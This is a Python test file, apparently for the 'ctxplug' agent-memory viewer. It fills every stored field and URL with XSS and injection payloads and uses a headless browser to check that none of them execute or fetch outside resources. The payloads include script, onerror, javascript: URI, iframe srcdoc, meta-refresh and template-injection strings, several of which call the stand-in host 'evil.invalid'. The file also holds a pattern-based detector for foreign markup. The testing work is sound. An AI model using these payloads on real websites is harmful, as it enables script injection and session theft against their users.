"""Stored text that tries to run: it is only ever text in the viewer, in every field and view."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from ctxplug_server.report import write_report

from ctxplug import AgentMemory, Message, ToolCallPart, ToolResultPart
from ctxplug.messages import TextPart, ThinkingPart
from ctxplug.tokens.usage import Usage

ELSEWHERE = "//evil.invalid/"
ATTACKS = (
    "<script>ran('{0}')</script><script src={1}{0}.js></script>",
    "<img src=x onerror=ran('{0}')><img src={1}{0}.png>",
    "\"'><svg onload=ran('{0}')><style>@import '{1}{0}.css'; * {{ display: none }}</style>",
    "' onmouseover=ran('{0}') autofocus onfocus=ran('{0}') x='",
    "</script><iframe srcdoc=\"<script>parent.ran('{0}')</script>\"></iframe>",
    "<base href={1}><meta http-equiv=refresh content='0;url={1}{0}'>",
    "<link rel=stylesheet href={1}{0}.css><object data={1}{0}></object><!-- ]]> -->",
    "javascript:ran('{0}') [a](javascript:ran('{0}')) data:text/html,<script>ran('{0}')</script>",
    "<form action={1}{0}><button autofocus formaction=javascript:ran('{0}')>",
    "{{{{constructor.constructor(\"ran('{0}')\")()}}}} ${{ran('{0}')}} <%= ran('{0}') %>",
    "\u202e\u2066reversed\u2069\u202c \u0000\u0007\u001b[31m\u200d\ufeff "
    "👩‍👩‍👧‍👦🏴‍☠️ a\u0301\u0302\u0303 ﷽",
)
WATCH = """
window.hits = [];
window.ran = (place) => window.hits.push("ran: " + place);
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => ran(name);
document.addEventListener("securitypolicyviolation", (event) =>
  window.hits.push(`blocked: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
FOREIGN = """() => [...document.querySelectorAll("*")].flatMap((one) => {
  const wrong = [...one.attributes].filter(({ name, value }) => name.startsWith("on")
    || name === "srcdoc" || (["href", "src", "action", "formaction", "data"].includes(name)
      && !/^(#|data:image\\/|[\\w/.]+\\.(css|js|svg)$)/.test(value)));
  const report = document.getElementById("ctxplug-data"); // it has its script and style in itself
  const odd = ["iframe", "base", "object", "embed", "form[action]", "img", "template",
    report ? "main script, main style" : "body script, style", "meta[http-equiv=refresh]",
  ].some((what) => one.matches(what));
  return odd || wrong.length ? [one.outerHTML.slice(0, 300)] : [];
})"""


def hostile(place: str) -> str:
    """Return text that would tell of `place` if any of it ran."""
    return "\n".join(attack.format(place, ELSEWHERE) for attack in ATTACKS)


def label(place: str) -> str:
    """Return the name of something, which can hold no slash and is short."""
    return f"\"'><img src=x onerror=ran('{place}')>\u202e{{{{x}}}} 👩‍👧"


NAMESPACE, SESSION, QUIET = label("namespace"), label("session"), label("untraced")


def said(memory: AgentMemory) -> None:
    """Have messages of all sorts said, in which everything is hostile."""
    name, call = label("tool"), label("call")
    given = {hostile("argument"): [hostile("value"), {"__proto__": hostile("inner")}]}
    memory.add(
        "user", hostile("user"), name=label("name"), metadata={label("key"): hostile("meta")}
    )
    thought = ThinkingPart(hostile("thinking"))
    memory.add(
        Message("assistant", [thought, TextPart(hostile("said")), ToolCallPart(call, name, given)])
    )
    result = ToolResultPart(call, [TextPart(hostile("result"))], name=name, is_error=True)
    memory.add(Message("tool", [result], name=name))
    memory.context(hostile("query"), system=hostile("system"), tools=[tool()])
    memory.add("assistant", hostile("answer") + "<b>" * 40_000 + "乱" * 40_000)


def tool() -> dict[str, Any]:
    """Return the definition of a hostile tool."""
    schema = {"type": "object", "properties": {hostile("property"): {"type": "string"}}}
    return {"name": label("defined"), "description": hostile("description"), "input_schema": schema}


@pytest.fixture(scope="module")
def store(stored: tuple[Path, str]) -> Path:
    """A store, which a server serves, with hostile text in every field of everything."""
    path = stored[0]
    options: dict[str, Any] = {"agent": label("agent"), "counter": "estimate", "budget": 100_000}
    with AgentMemory.open(
        path, namespace=[NAMESPACE], session=SESSION, audit=True, **options
    ) as memory:
        said(memory)
        old = memory.remember(hostile("old"), kind="fact", tags=[label("old tag")])
        memory.remember(
            hostile("memory"),
            kind=label("kind"),
            tags=[label("tag"), hostile("long tag")[:200]],
            metadata={label("memory key"): {hostile("deep"): hostile("memory meta")}},
            origin=f"tool:{label('origin')}",
            supersedes=[old.id],
        )
        memory.remember("huge " + "<i>x" * 50_000, kind="note")
        memory.recall(hostile("recall"))
        steps: dict[str, Any] = {"started_at": datetime.now(UTC), "duration": 1.5}
        for kind in ("tool", "model", "span"):
            error = hostile(f"{kind} error")
            data = {label("data"): hostile("data")}
            memory.trace.record(kind, label(kind), outcome="error", error=error, **data, **steps)
        for n in range(8):  # findings about repeated failures
            memory.trace.record(
                "tool", label("again"), outcome="error", error=hostile(str(n)), **steps
            )
        memory.record_usage(Usage(input_tokens=99, output_tokens=5, model=label("model")))
        memory.session.snapshot(label("snapshot"), note=hostile("note"))
        memory.session.update({label("session key"): hostile("session meta")})
        memory.audit.note(label("action"), reason=hostile("audit"))
        said(memory)
        memory.session.fork(label("fork")).close()
        memory.session.fail(hostile("reason"))
    with AgentMemory.open(
        path, namespace=[NAMESPACE], session=QUIET, trace=False, **options
    ) as quiet:
        said(quiet)
    return path


@pytest.fixture
def home(store: Path, stored: tuple[Path, str]) -> str:
    """The address of the viewer on it."""
    return f"{stored[1]}/"


@pytest.fixture
def watched(open_page: Callable[..., Any], chromium: Any) -> Callable[..., Any]:
    """Open pages that are watched for whatever runs, is blocked or is asked for elsewhere."""

    def open(url: str, **options: Any) -> Any:
        page = open_page("about:blank", **options)
        page.requested = []
        page.context.on("request", lambda request: page.requested.append(request.url))
        page.context.on("page", lambda other: page.troubles.append(f"opened {other.url}"))
        page.on("dialog", lambda dialog: (page.troubles.append(dialog.message), dialog.dismiss()))
        page.add_init_script(WATCH)
        page.goto(url)
        return page

    return open


def check(page: Any, home: str) -> None:
    """Nothing ran, nothing was blocked, nothing is there that is not the viewer's own."""
    assert page.evaluate("window.hits") == []
    assert page.evaluate(FOREIGN) == []
    assert len(page.frames) == 1
    assert page.url.startswith(home)
    assert [url for url in page.requested if not url.startswith((home, "data:image/"))] == []
    assert page.troubles == []


def test_the_watch_sees_what_runs_what_is_blocked_and_what_is_asked_for(
    home: str, watched: Callable[..., Any]
) -> None:
    page = watched(f"{home}#/memories")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran(1)>')")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=//evil.invalid/x.png>')")
    while len(page.evaluate("window.hits")) < 2:  # until the test's own time is up
        page.wait_for_timeout(20)
    page.evaluate("ran('by hand')")
    assert {hit.split(":")[0] for hit in page.evaluate("window.hits")} == {"ran", "blocked"}
    assert len(page.evaluate(FOREIGN)) == 2
    page.troubles.clear()


def settle(page: Any) -> None:
    """Wait until a view has what it asked for, and has drawn it."""
    page.locator("main h1").first.wait_for()
    page.wait_for_timeout(60)  # what was clicked begins to load
    for waiting in page.locator(".spinner, progress, [aria-busy=true]").all():
        waiting.wait_for(state="detached")


def visit_all(page: Any, home: str) -> None:
    """Go through every view and open what can be opened there."""
    place = f"{home}#/s/{quote(NAMESPACE, safe='')}/{quote(SESSION, safe='')}"
    views = [f"{home}#/sessions", f"{home}#/sessions?q={quote(hostile('search'))}"]
    views += [f"{place}/{tab}" for tab in ("conversation", "window", "steps", "charts", "findings")]
    views += [f"{place}/compare?a=balanced&b=aggressive", f"{place}/charts?of=namespace"]
    views += [f"{place.replace(quote(SESSION, safe=''), quote(QUIET, safe=''))}/conversation"]
    views += [f"{home}#/memories?namespace={quote(NAMESPACE, safe='')}"]
    for view in views:
        page.goto(view)
        settle(page)
        check(page, home)
        for opened in ("details:not([open]) > summary", ".paged-row", ".memory-item"):
            for one in page.locator(opened).all()[:6]:
                if one.is_visible():
                    one.click(timeout=3_000)
        page.locator("body").hover()
        settle(page)
        check(page, home)


def test_nothing_stored_runs_in_any_view(home: str, watched: Callable[..., Any]) -> None:
    page = watched(home)
    visit_all(page, home)
    assert page.get_by_text("ran('memory')").count()  # it was there, as text


@pytest.mark.slow
def test_nothing_stored_runs_in_what_is_typed_edited_and_monitored(
    home: str, watched: Callable[..., Any]
) -> None:
    page = watched(f"{home}#/memories?namespace={quote(NAMESPACE, safe='')}", locale="zh-CN")
    page.get_by_role("searchbox").fill(hostile("typed")[:900])
    settle(page)
    check(page, home)
    page.get_by_role("searchbox").fill("")
    page.locator(".memory-item", has_text="ran('memory')").click()
    page.get_by_role("button", name="编辑").click()
    page.get_by_label("标签").last.fill(f"{label('typed tag')}, {hostile('other')[:100]}")
    page.get_by_role("button", name="保存").click()
    page.get_by_text("已保存").wait_for()
    check(page, home)
    page.get_by_role("button", name="遗忘", exact=True).click()
    page.get_by_role("dialog").get_by_text("ran('memory')").wait_for()
    check(page, home)
    page.goto(f"{home}#/monitoring")
    settle(page)
    page.locator(".finding-told").first.wait_for()
    check(page, home)


ADDRESSES = (
    f"#/s/{quote(label('n'), safe='')}/{quote(label('nowhere'), safe='')}/steps",
    f"#/memories?namespace={quote(NAMESPACE, safe='')}&id={quote(hostile('id'), safe='')}",
    f"#/{quote(hostile('view'), safe='')}",
    "#/sessions?state=%3Cimg%20src%3Dx%20onerror%3Dran(1)%3E&namespace=%E0%A4%A",
    "#/s/__proto__/constructor/charts",
)


@pytest.mark.slow
def test_nothing_in_an_address_runs(home: str, watched: Callable[..., Any]) -> None:
    page = watched(home)
    for address in ADDRESSES:
        page.goto(home + address)
        settle(page)
        page.troubles[:] = [one for one in page.troubles if "Failed to load resource" not in one]
        check(page, home)


def test_nothing_that_comes_live_runs(store: Path, home: str, watched: Callable[..., Any]) -> None:
    session = label("live")
    options: dict[str, Any] = {"namespace": [NAMESPACE], "session": session, "counter": "estimate"}
    with AgentMemory.open(store, **options) as memory:
        memory.add("user", "before")
        page = watched(f"{home}#/s/{quote(NAMESPACE, safe='')}/{quote(session, safe='')}")
        page.get_by_role("button", name="Live").click()
        page.get_by_text("following").wait_for()
        memory.add("user", hostile("came live"))
        page.get_by_text("ran('came live')").first.wait_for()
        check(page, home)


@pytest.mark.slow
def test_nothing_stored_runs_in_a_report(
    store: Path, tmp_path: Path, watched: Callable[..., Any]
) -> None:
    with AgentMemory.open(store, namespace="reader") as memory:
        write_report(memory.backend, tmp_path / "report.html", title=hostile("title"))
    home = (tmp_path / "report.html").as_uri()
    page = watched(home)
    visit_all(page, home)
    assert page.get_by_text("ran('memory')").count()
